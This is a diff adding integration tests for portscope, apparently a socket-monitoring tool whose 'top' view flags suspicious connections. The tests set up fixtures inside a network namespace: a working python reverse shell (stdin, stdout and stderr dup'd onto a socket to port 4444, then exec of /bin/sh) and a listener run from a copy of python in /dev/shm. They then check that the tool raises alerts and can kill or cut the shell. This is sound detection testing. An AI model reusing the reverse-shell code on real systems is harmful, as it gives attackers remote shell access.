@@ -80,7 +80,13 @@ impl Tmux {
 
 impl Drop for Tmux {
     fn drop(&mut self) {
+        // kill-server leaves the server's socket file behind: remove it too.
+        let socket = self.run(&["display-message", "-p", "#{socket_path}"]);
         let _ = self.cmd(&["kill-server"]).status();
+        let socket = socket.trim();
+        if socket.ends_with(&self.socket) {
+            let _ = std::fs::remove_file(socket);
+        }
     }
 }
 
@@ -255,4 +261,362 @@ fn x_cuts_a_connection_and_the_program_keeps_running() {
         "q did not quit"
     );
     assert_eq!(tmux.pane("#{alternate_on}"), "0", "left on the alternate screen");
+}
+
+/// Removes a file this test made, on drop.
+struct RemoveOnDrop(std::path::PathBuf);
+
+impl Drop for RemoveOnDrop {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file(&self.0);
+    }
+}
+
+/// Opens 3,000 connections to a listener of its own on the namespace's loopback and closes
+/// each from the server's side first, so that the server's end of each waits in TIME-WAIT
+/// (60 s) with no process holding it; then exits, the listener with it.
+const TIME_WAITS: &str = "import socket,time\n\
+    s=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n\
+    s.bind(('127.0.0.1',18620))\ns.listen(128)\nend=time.time()+40\nn=0\n\
+    while n<3000 and time.time()<end:\n\
+    \x20   c=socket.create_connection(('127.0.0.1',18620))\n\
+    \x20   a,_=s.accept()\n\
+    \x20   a.close()\n\
+    \x20   c.recv(1)\n\
+    \x20   c.close()\n\
+    \x20   n+=1\n\
+    print(n,flush=True)\n";
+
+/// Issue 22, wrong answer 6: on a busy host the first screen was one unfolded
+/// "(no visible owner) (3002 sockets)" group of TIME-WAIT rows, the alerts ~3,000 rows down.
+/// Now the ownerless group is one count line and the alerts (a listener run from /dev/shm, a
+/// reverse shell) come first.
+#[test]
+fn the_first_screen_of_a_busy_host_shows_the_alert() {
+    if skip_without_root("top in tmux") || tmux_missing() {
+        return;
+    }
+    let ns = Netns::new("topbusy");
+    let mut maker = Guard::spawn(
+        ns.command("/usr/bin/python3")
+            .args(["-c", TIME_WAITS])
+            .stdout(Stdio::piped()),
+    );
+    let made: usize = first_line(&mut maker).parse().expect("a count");
+    assert!(
+        wait_until(10.0, || matches!(maker.0.try_wait(), Ok(Some(_)))),
+        "the connection maker did not exit"
+    );
+    assert!(made >= 3000, "only {made} connections");
+
+    // The ALERT: a copy of python in /dev/shm (world-writable, no package owns it) listening.
+    let exe = std::path::PathBuf::from(format!("/dev/shm/ps-top-shm-{}", std::process::id()));
+    let _remove = RemoveOnDrop(exe.clone());
+    std::fs::copy("/usr/bin/python3", &exe).expect("copy python3 to /dev/shm");
+    let script = "import socket,time\ns=socket.socket()\ns.bind(('127.0.0.1',18621))\ns.listen(8)\n\
+                  print('ready',flush=True)\ntime.sleep(120)\n";
+    let mut cmd = ns.command(exe.to_str().expect("utf-8 path"));
+    cmd.args(["-c", script])
+        .env("PYTHONHOME", "/usr")
+        .stdout(Stdio::piped());
+    // A freshly copied binary can be briefly "busy" while a child another test thread forked
+    // still holds the write descriptor; retry for up to a second.
+    let mut attempts = 0;
+    let child = loop {
+        match cmd.stdin(Stdio::null()).spawn() {
+            Ok(child) => break child,
+            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && attempts < 50 => {
+                attempts += 1;
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            Err(e) => panic!("spawn {cmd:?}: {e}"),
+        }
+    };
+    let mut listener = Guard(child);
+    assert_eq!(first_line(&mut listener), "ready");
+
+    // And a reverse shell: sh with its standard input, output and error on a connection to a
+    // handler on port 4444 (both on the namespace's loopback).
+    let mut handler = support::python(
+        Some(&ns),
+        "import socket,time\ns=socket.socket()\ns.bind(('127.0.0.1',4444))\ns.listen(1)\n\
+         print('ready',flush=True)\na,_=s.accept()\ntime.sleep(120)\n",
+    );
+    assert_eq!(first_line(&mut handler), "ready");
+    let shell = Guard::spawn(ns.command("/usr/bin/python3").args([
+        "-c",
+        "import os,socket\nc=socket.create_connection(('127.0.0.1',4444))\n\
+         [os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execv('/bin/sh',['sh','-i'])\n",
+    ]));
+
+    // The wrong answer's precondition: the namespace holds the ownerless TIME-WAIT sockets.
+    let out = support::run(support::portscope_in(&ns).args(["list", "--json"]));
+    let json = String::from_utf8_lossy(&out.stdout);
+    let waiting = json.matches("TIME_WAIT").count();
+    assert!(waiting >= 3000, "{waiting} TIME-WAIT sockets");
+
+    let command = format!(
+        "ip netns exec {} env PORTSCOPE_NETNS=current NO_COLOR=1 TERM=xterm-256color {} top",
+        ns.name,
+        env!("CARGO_BIN_EXE_portscope")
+    );
+    let tmux = Tmux::start("busy", &command, 100, 30);
+    let (shown, screen) = tmux.wait_for(30.0, |s| {
+        s.contains("127.0.0.1:18621") && s.contains("127.0.0.1:4444") && s.contains("/sh ")
+    });
+    assert!(
+        shown,
+        "the /dev/shm listener is not on the first screen:\n{screen}"
+    );
+    assert_eq!(screen.lines().count().min(30), screen.lines().count());
+    let row = screen
+        .lines()
+        .find(|l| l.contains("127.0.0.1:18621"))
+        .unwrap_or_default();
+    assert!(row.contains("LISTEN") && row.contains("ALERT"), "{row}\n{screen}");
+    assert!(
+        screen.contains(&format!("{}/ps-top-shm-", listener.pid())),
+        "its group heads the table:\n{screen}"
+    );
+    assert!(
+        screen.contains(&format!("{}/sh", shell.pid())),
+        "the reverse shell's group:\n{screen}"
+    );
+    let alerts = screen.lines().filter(|l| l.ends_with("ALERT")).count();
+    assert!(
+        alerts >= 4,
+        "two alerts, each on its group and its row:\n{screen}"
+    );
+    // The TIME-WAIT sockets are counted on one folded line, not listed.
+    let folded = screen
+        .lines()
+        .find(|l| l.contains("(no visible owner)"))
+        .unwrap_or_default();
+    assert!(
+        folded.starts_with('▸') && folded.contains(" TIME-WAIT"),
+        "{folded}\n{screen}"
+    );
+    assert!(
+        !screen.lines().any(|l| l.contains("TIME-WAIT  ")),
+        "a TIME-WAIT row:\n{screen}"
+    );
+    tmux.keys(&["q"]);
+    assert!(
+        wait_until(10.0, || tmux.pane("#{pane_dead}") == "1"),
+        "q did not quit"
+    );
+}
+
+/// The CPU time (user + system, in clock ticks) `pid` has used, from `/proc/PID/stat`.
+fn cpu_ticks(pid: u32) -> Option<u64> {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    let fields: Vec<&str> = stat.rsplit(')').next()?.split_whitespace().collect();
+    // After the name: state is field 3, utime 14 and stime 15 (1-based), here 0-based from state.
+    Some(fields.get(11)?.parse::<u64>().ok()? + fields.get(12)?.parse::<u64>().ok()?)
+}
+
+/// Ends a process this test started (by PID) when the test ends, however it ends.
+struct KillOnDrop(u32);
+
+impl Drop for KillOnDrop {
+    fn drop(&mut self) {
+        if std::fs::metadata(format!("/proc/{}", self.0)).is_ok() {
+            support::send_signal(self.0, libc::SIGKILL);
+        }
+    }
+}
+
+/// The terminal dies under `top` (its tmux server is killed with -9, as when a session's server
+/// crashes or an ssh connection drops): reading the terminal gives EOF or EIO from then on, and
+/// the view must end rather than spin on it, deaf to SIGTERM.
+#[test]
+fn an_orphaned_view_quits_when_its_terminal_dies() {
+    if skip_without_root("top in tmux") || tmux_missing() {
+        return;
+    }
+    let ns = Netns::new("topgone");
+    let command = format!(
+        "ip netns exec {} env PORTSCOPE_NETNS=current NO_COLOR=1 TERM=xterm-256color {} top --interval 1s",
+        ns.name,
+        env!("CARGO_BIN_EXE_portscope")
+    );
+    let tmux = Tmux::start("gone", &command, 100, 30);
+    let (started, screen) = tmux.wait_for(30.0, |s| s.contains("portscope top"));
+    assert!(started, "top did not start:\n{screen}");
+    let pid: u32 = tmux.pane("#{pane_pid}").parse().expect("pane pid");
+    let _top = KillOnDrop(pid);
+    let server: u32 = tmux.pane("#{pid}").parse().expect("tmux server pid");
+    let socket = tmux.run(&["display-message", "-p", "#{socket_path}"]);
+    // Only this test's own server (its own -L socket), by PID.
+    support::send_signal(server, libc::SIGKILL);
+    let socket = socket.trim();
+    if socket.ends_with(&tmux.socket) {
+        let _ = std::fs::remove_file(socket);
+    }
+    let gone = || {
+        std::fs::read_to_string(format!("/proc/{pid}/stat")).map_or(true, |stat| {
+            stat.rsplit(')')
+                .next()
+                .is_some_and(|rest| rest.trim_start().starts_with('Z'))
+        })
+    };
+    if !wait_until(5.0, gone) {
+        // Say what it does instead: how much CPU one second costs it, and whether it hears SIGTERM.
+        let before = cpu_ticks(pid).unwrap_or(0);
+        std::thread::sleep(std::time::Duration::from_secs(1));
+        let spent = cpu_ticks(pid).unwrap_or(0).saturating_sub(before);
+        support::send_signal(pid, libc::SIGTERM);
+        let heard = wait_until(3.0, gone);
+        panic!(
+            "top still runs 5 s after its terminal died, using {spent} CPU ticks a second; \
+             it {} SIGTERM",
+            if heard { "then ended on" } else { "ignores" }
+        );
+    }
+}
+
+/// Issue 24 point 7: as in TCPView, the process of any row can be ended. A reverse shell (sh
+/// with its standard streams on a connection to a handler on port 4444) is found by its row,
+/// and `c` on that connection row plans `close --pid` for the shell. An interactive shell
+/// ignores SIGTERM, so the answer is `k` (`close --force`: SIGKILL once the 5 s are up): the
+/// shell is gone, the handler (another process on the same connection) keeps running.
+#[test]
+fn c_on_a_connection_row_ends_its_process() {
+    if skip_without_root("top in tmux") || tmux_missing() {
+        return;
+    }
+    let ns = Netns::new("topend");
+    let mut handler = support::python(
+        Some(&ns),
+        "import socket,time\ns=socket.socket()\ns.bind(('127.0.0.1',4444))\ns.listen(1)\n\
+         print('ready',flush=True)\na,_=s.accept()\ntime.sleep(120)\n",
+    );
+    assert_eq!(first_line(&mut handler), "ready");
+    let mut shell = Guard::spawn(ns.command("/usr/bin/python3").args([
+        "-c",
+        "import os,socket\nc=socket.create_connection(('127.0.0.1',4444))\n\
+         [os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execv('/bin/sh',['sh','-i'])\n",
+    ]));
+    let command = format!(
+        "ip netns exec {} env PORTSCOPE_NETNS=current NO_COLOR=1 TERM=xterm-256color {} top --interval 1s",
+        ns.name,
+        env!("CARGO_BIN_EXE_portscope")
+    );
+    let tmux = Tmux::start("end", &command, 100, 30);
+    let group = format!("{}/sh", shell.pid());
+    let (shown, screen) = tmux.wait_for(30.0, |s| s.contains(&group));
+    assert!(shown, "the reverse shell's group:\n{screen}");
+    // Only the shell's group (its program is sh, its exe dash): the group line, then its row.
+    tmux.keys(&["/", "sh", "Enter", "g", "Down"]);
+    let (filtered, screen) = tmux.wait_for(5.0, |s| !s.contains("python3") && s.contains(&group));
+    assert!(filtered, "filtered to the shell:\n{screen}");
+    tmux.keys(&["c"]);
+    let question = format!("End process {} (sh)?", shell.pid());
+    let (asked, screen) = tmux.wait_for(10.0, |s| s.contains(&question));
+    assert!(asked, "no confirmation to end the process:\n{screen}");
+    assert!(
+        screen.contains(&format!("PID {} sh (user root): SIGTERM", shell.pid())),
+        "the plan names the shell:\n{screen}"
+    );
+    assert!(
+        screen.contains("k: yes, SIGKILL if still running after 5 s"),
+        "the answers:\n{screen}"
+    );
+    assert!(
+        matches!(shell.0.try_wait(), Ok(None)),
+        "nothing is signalled before the answer"
+    );
+    tmux.keys(&["k"]);
+    let outcome = format!(
+        "process {pid} ended: {pid}/sh was killed with SIGKILL",
+        pid = shell.pid()
+    );
+    let (ended, screen) = tmux.wait_for(20.0, |s| s.contains(&outcome));
+    assert!(ended, "no outcome:\n{screen}");
+    assert!(
+        wait_until(5.0, || matches!(shell.0.try_wait(), Ok(Some(_)))),
+        "the shell still runs"
+    );
+    assert!(
+        matches!(handler.0.try_wait(), Ok(None)),
+        "the handler, which held the other end, keeps running"
+    );
+    tmux.keys(&["q"]);
+    assert!(
+        wait_until(10.0, || tmux.pane("#{pane_dead}") == "1"),
+        "q did not quit"
+    );
+}
+
+/// Issue 24 point 7: after `x` cut a reverse shell's connection the shell ran on, no longer
+/// flagged. A shell with its standard streams on a connection to port 4444 that waits for a
+/// child (`sh -c 'sleep 120; exit 0'`, as a dropper's loop does) outlives the cut: its row
+/// stays, marked closed, with its ALERT, long after a closed row goes; once the shell is
+/// killed, the row goes.
+#[test]
+fn a_finding_stays_on_the_shell_after_x_cuts_its_connection() {
+    if skip_without_root("top in tmux") || tmux_missing() {
+        return;
+    }
+    let ns = Netns::new("topstay");
+    let mut handler = support::python(
+        Some(&ns),
+        "import socket,time\ns=socket.socket()\ns.bind(('127.0.0.1',4444))\ns.listen(1)\n\
+         print('ready',flush=True)\na,_=s.accept()\ntime.sleep(120)\n",
+    );
+    assert_eq!(first_line(&mut handler), "ready");
+    // Its own process group: the shell and its sleep are killed together at the end.
+    let shell = support::GroupGuard::spawn(ns.command("/usr/bin/python3").args([
+        "-c",
+        "import os,socket\nc=socket.create_connection(('127.0.0.1',4444))\n\
+         [os.dup2(c.fileno(),f) for f in (0,1,2)]\n\
+         os.execv('/bin/sh',['sh','-c','sleep 120; exit 0'])\n",
+    ]));
+    let command = format!(
+        "ip netns exec {} env PORTSCOPE_NETNS=current NO_COLOR=1 TERM=xterm-256color {} top --interval 1s",
+        ns.name,
+        env!("CARGO_BIN_EXE_portscope")
+    );
+    let tmux = Tmux::start("stay", &command, 100, 30);
+    let group = format!("{}/sh", shell.pid());
+    let (shown, screen) = tmux.wait_for(30.0, |s| {
+        s.lines().any(|l| l.contains(&group) && l.ends_with("ALERT"))
+    });
+    assert!(shown, "the reverse shell is flagged:\n{screen}");
+    tmux.keys(&["/", "sh", "Enter", "g", "Down", "x"]);
+    let (asked, screen) = tmux.wait_for(10.0, |s| s.contains("Cut 1 connection(s)?"));
+    assert!(asked, "no confirmation:\n{screen}");
+    tmux.keys(&["y"]);
+    let (cut, screen) = tmux.wait_for(10.0, |s| s.contains("cut 1 of 1 connection(s)"));
+    assert!(cut, "no outcome:\n{screen}");
+    let (closed, screen) = tmux.wait_for(5.0, |s| {
+        s.lines().any(|l| l.contains(":4444") && l.contains("CLOSED"))
+    });
+    assert!(closed, "the cut connection is marked closed:\n{screen}");
+    // A closed row goes after 5 s; this one stays while the shell runs, with its alert.
+    std::thread::sleep(std::time::Duration::from_secs(8));
+    assert!(
+        std::fs::metadata(format!("/proc/{}", shell.pid())).is_ok(),
+        "the shell runs on after the cut"
+    );
+    let screen = tmux.screen();
+    assert!(
+        screen
+            .lines()
+            .any(|l| l.contains(":4444") && l.contains("CLOSED") && l.ends_with("ALERT")),
+        "the finding went with the connection:\n{screen}"
+    );
+    assert!(
+        screen.lines().any(|l| l.contains(&group) && l.ends_with("ALERT")),
+        "the shell's group lost its alert:\n{screen}"
+    );
+    // The shell is gone (killed here, by its process group): so is the row.
+    drop(shell);
+    let (gone, screen) = tmux.wait_for(10.0, |s| !s.contains(":4444"));
+    assert!(gone, "the row outlived the shell:\n{screen}");
+    tmux.keys(&["q"]);
+    assert!(
+        wait_until(10.0, || tmux.pane("#{pane_dead}") == "1"),
+        "q did not quit"
+    );
 }
